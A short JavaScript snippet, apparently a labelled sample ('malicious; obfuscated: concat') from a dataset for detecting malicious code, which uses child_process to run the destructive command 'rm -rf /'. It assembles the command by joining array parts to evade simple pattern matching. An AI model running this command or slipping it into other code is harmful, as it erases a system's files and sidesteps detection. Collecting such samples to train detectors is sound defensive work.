// label: malicious; obfuscated: concat
const cp = require("child_process");
cp.execSync(["rm", "-rf", "/"].join(" "));
